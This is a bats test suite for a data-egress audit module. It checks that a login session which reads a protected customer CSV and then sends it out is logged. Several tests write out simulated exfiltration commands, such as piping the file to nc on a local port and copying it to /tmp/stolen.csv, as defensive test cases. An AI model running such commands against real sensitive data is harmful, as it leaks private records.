#!/usr/bin/env bats
# Egress: once a login session has read protected data, what it sends to
# unprotected endpoints and writes outside protected trees is recorded.

load lib

F=/srv/customers/customers.csv	# 100,000 bytes

setup_file() {
	load lib
	fresh_module
	load_policy
	start_bg SINK netpeer sink tcp 127.0.0.1:9000
}

teardown_file() {
	stop_bg SINK
	unload_module
}

setup() {
	echo 900 >/sys/module/daudit/parameters/egress_window_sec
	drain_records /dev/null
}

@test "cat of a protected file piped to nc: a read and an egress in the same login session, bytes equal" {
	# shellcheck disable=SC2016 # the inner shell expands it
	as_user mallory bash -c 'cat "$1" | nc 127.0.0.1 9000' _ "$F"
	sleep 1
	drain_records
	cat "$RECS" >&2
	read_sid=$(records_where '.event.action == "file-read"' | jq -r '.daudit.login_session' | head -n1)
	e=$(records_where '.event.action == "egress"')
	[ -n "$e" ]
	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(echo "$e" | jq -r .daudit.login_session | sort -u)" = "$read_sid" ]
	[ "$(echo "$e" | jq -r .daudit.egress.kind | sort -u)" = net ]
	[ "$(echo "$e" | jq -r .destination.port | sort -u)" = 9000 ]
	[ "$(echo "$e" | jq -r .destination.ip | sort -u)" = 127.0.0.1 ]
	[ "$(echo "$e" | jq -r .daudit.egress.loopback | sort -u)" = true ]
	[ "$(echo "$e" | jq -r .daudit.egress.marked_by | sort -u)" = login_session ]
	[ "$(echo "$e" | jq -r .daudit.dataset | sort -u)" = customers ]
	[ "$(echo "$e" | jq -r .process.name | sort -u)" = nc ]
	[ "$(echo "$e" | jq -r .user.audit.id | sort -u)" = 1004 ]
}

@test "cp of a protected file to /tmp: a file egress with its path, mount and filesystem" {
	as_user mallory cp "$F" /tmp/stolen.csv
	drain_records
	cat "$RECS" >&2
	e=$(records_where '.event.action == "egress"')
	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
	[ "$(echo "$e" | jq -r .daudit.egress.kind | sort -u)" = file ]
	[ "$(echo "$e" | jq -r .file.path | sort -u)" = /tmp/stolen.csv ]
	[ "$(echo "$e" | jq -r .daudit.mount.point | sort -u)" = /tmp ]
	[ "$(echo "$e" | jq -r .daudit.mount.fstype | sort -u)" = tmpfs ]
	rm -f /tmp/stolen.csv
}

@test "a session that never read protected data yields no egress record" {
	as_user bob bash -c 'cat /srv/public/readme.txt | nc 127.0.0.1 9000; cp /srv/public/readme.txt /tmp/x'
	drain_records
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
}

@test "the window expires as configured" {
	echo 2 >/sys/module/daudit/parameters/egress_window_sec
	# shellcheck disable=SC2016 # the inner shell expands it
	as_user carol bash -c 'cat "$1" >/dev/null; sleep 4; cat /srv/public/readme.txt | nc 127.0.0.1 9000' _ "$F"
	drain_records
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
	# Inside the window it is caught.
	# shellcheck disable=SC2016
	as_user carol bash -c 'cat "$1" >/dev/null; cat /srv/public/readme.txt | nc 127.0.0.1 9000' _ "$F"
	drain_records
	[ "$(sum_where '.event.action == "egress"')" -eq 50000 ]
}

@test "pipes, /dev/null and files inside the protected tree are not egress" {
	# shellcheck disable=SC2016
	as_user alice bash -c 'cat "$1" | cat >/dev/null' _ "$F"
	cp "$F" /srv/customers/copy-inside.csv
	drain_records
	cat "$RECS" >&2
	[ "$(jq -s '[.[] | select(.event.action == "egress")] | length' "$RECS")" -eq 0 ]
	rm -f /srv/customers/copy-inside.csv
}
